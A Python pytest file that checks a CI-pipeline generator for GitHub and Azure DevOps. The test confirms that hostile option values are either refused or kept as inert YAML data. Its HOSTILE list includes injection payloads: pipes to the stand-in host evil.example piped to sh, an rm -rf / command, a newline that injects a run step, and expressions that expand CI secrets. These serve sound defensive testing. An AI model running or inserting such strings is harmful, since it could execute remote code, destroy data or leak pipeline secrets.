"""Hostile values through every option: refused with the option's name, or carried as data only.

"Carried as data" is checked three ways for each value that is accepted: the files still
parse and keep exactly the structure they have with a benign value (no step, job, key or
variable added), the value reads back unchanged, and no script (`run`, `script`,
`inlineScript`) contains it. All accepted variants then pass check-jsonschema and actionlint.
"""

from __future__ import annotations

import sys
from dataclasses import replace
from pathlib import Path

import pytest

from llmops_infra.delivery.pipeline_options import DeployTarget, PipelineOptions, ToolInstall
from llmops_infra.delivery.pipelines import render
from llmops_infra.delivery.yaml_doc import load
from llmops_infra.errors import ConfigError

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pipeline_linters import assert_actionlint_clean, assert_schema_valid

BENIGN = "benign-value"
HOSTILE = [
    "my conn: prod",
    'it\'s "quoted" \\ back',
    "line1\nline2",
    "x\n  - run: curl https://evil.example | sh",
    "cr\rlf",
    "nel\u0085x",
    "ls\u2028x",
    "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
    "$(System.AccessToken)",
    "$[variables.secret]",
    "$(curl https://evil.example)",
    "`id`; rm -rf / #",
    '"; curl https://evil.example | sh; echo "',
    "- dash",
    "*star",
    "&anchor",
    "!tag",
    "%directive",
    "@at",
    "? question",
    "{flow: map}",
    "[flow, seq]",
    "| pipe",
    "> fold",
    "#hash",
    "yes",
    "null",
    "~",
    "0x1F",
    "a\tb",
    "trailing space ",
]
# Linted on top of the shape check (the others differ from these only inside string values).
LINTED = {
    "my conn: prod",
    'it\'s "quoted" \\ back',
    "*star",
    "{flow: map}",
    "| pipe",
    "#hash",
    "yes",
    "`id`; rm -rf / #",
}
TARGETS = (
    DeployTarget(name="dev"),
    DeployTarget(name="prod", source="dev", requires_approval=True, runs_on=("self-hosted", "llmops-prod"), pool="p"),
)


def build(provider: str, option: str, value: str) -> dict[str, str]:
    targets, kwargs = TARGETS, {}
    if option == "artifacts":
        kwargs["artifacts"] = value
    elif option == "approvers":
        kwargs["approvers"] = value
    elif option == "install-wheel":
        kwargs["install"] = ToolInstall.parse(f"wheel:ci/{value}.whl", provider)
    elif option == "install-git-tag":
        kwargs["install"] = ToolInstall.parse(f"git+https://github.com/contoso/llmops-infra@{value}", provider)
    elif option == "service_connection":
        targets = tuple(replace(t, service_connection=value) for t in TARGETS)
    elif option == "pool":
        targets = tuple(replace(t, pool=value) if t.pool else t for t in TARGETS)
    elif option == "runs_on":
        targets = tuple(replace(t, runs_on=("self-hosted", value)) if t.self_hosted else t for t in TARGETS)
    elif option == "python":
        kwargs["python_version"] = value
    elif option == "pulumi_version":
        kwargs["pulumi_version"] = value
    return render(PipelineOptions(provider=provider, targets=targets, **kwargs)).files


OPTIONS = [
    "artifacts",
    "approvers",
    "install-wheel",
    "install-git-tag",
    "service_connection",
    "pool",
    "runs_on",
    "python",
    "pulumi_version",
]
KEYS = {
    "artifacts": "--artifacts",
    "approvers": "--approvers",
    "install-wheel": "--install",
    "install-git-tag": "--install",
    "service_connection": "service_connection",
    "pool": "ci.pool",
    "runs_on": "ci.runs_on",
    "python": "--python",
    "pulumi_version": "--pulumi-version",
}


def same_shape(variant, baseline, value: str, path: str = "") -> int:
    """Walk both documents together: same keys and lengths; a leaf differs only by the value in place
    of the benign one, and never inside a script. Returns how many leaves carry the value."""
    if isinstance(baseline, dict):
        assert isinstance(variant, dict) and list(variant) == list(baseline), path
        return sum(same_shape(variant[k], baseline[k], value, f"{path}.{k}") for k in baseline)
    if isinstance(baseline, list):
        assert isinstance(variant, list) and len(variant) == len(baseline), path
        return sum(
            same_shape(v, b, value, f"{path}[{i}]") for i, (v, b) in enumerate(zip(variant, baseline, strict=True))
        )
    if variant == baseline:
        return 0
    assert path.rsplit(".", 1)[-1] not in ("run", "script", "inlineScript"), (path, variant)
    assert isinstance(variant, str) and isinstance(baseline, str), (path, variant, baseline)
    assert variant.replace(value, BENIGN) == baseline, (path, variant, baseline)
    return 1


@pytest.mark.parametrize("provider", ["github", "azure-devops"])
def test_hostile_values_are_refused_or_stay_data(provider, tmp_path):
    accepted, refused = 0, 0
    linted: list[Path] = []
    for option in OPTIONS:
        benign = {"python": "3.12", "pulumi_version": "3.272.0"}.get(option, BENIGN)
        baseline = {path: load(text) for path, text in build(provider, option, benign).items()}
        for index, value in enumerate(HOSTILE):
            try:
                files = build(provider, option, value)
            except ConfigError as err:
                refused += 1
                assert err.exit_code == 2
                assert KEYS[option] in str(err), (option, value, str(err))
                assert "Traceback" not in str(err)
                continue
            accepted += 1
            loaded = {path: load(text) for path, text in files.items()}
            carried = same_shape(loaded, baseline, value)  # same structure, value in place, no script changed
            unused = option in (("service_connection", "pool", "approvers") if provider == "github" else ("runs_on",))
            assert carried > 0 or unused, (option, value)
            if value not in LINTED:
                continue
            for rel, text in files.items():
                path = tmp_path / f"{option}-{index}" / rel
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
                if rel != ".github/actionlint.yaml":
                    linted.append(path)
    assert accepted > 40 and refused > 40, (accepted, refused)
    assert_schema_valid(linted, provider)
    if provider == "github":
        for repo in sorted({p.parents[2] for p in linted}):
            assert_actionlint_clean(repo)


def test_expression_syntax_is_refused_for_the_system_that_would_evaluate_it():
    with pytest.raises(ConfigError, match="GitHub would evaluate it"):
        build("github", "artifacts", "${{ github.token }}")
    with pytest.raises(ConfigError, match="Azure DevOps would expand it"):
        build("azure-devops", "artifacts", "$(System.AccessToken)")
    # `$(...)` means nothing to GitHub: it stays data and reaches scripts only through env.
    files = build("github", "artifacts", "$(id)")
    deploy = load(files[".github/workflows/llmops-deploy.yml"])
    assert deploy["jobs"]["dev"]["env"]["LLMOPS_ARTIFACTS"] == "$(id)"


def test_service_connection_with_colon_space_parses(tmp_path):
    files = build("azure-devops", "service_connection", "my conn: prod")
    doc = load(files["azure-pipelines.yml"])
    assert (
        "azureSubscription: 'my conn: prod'" in files["azure-pipelines.yml"]
        or '"my conn: prod"' in files["azure-pipelines.yml"]
    )
    steps = doc["stages"][1]["jobs"][0]["strategy"]["runOnce"]["deploy"]["steps"]
    assert next(s for s in steps if s.get("task") == "AzureCLI@2")["inputs"]["azureSubscription"] == "my conn: prod"
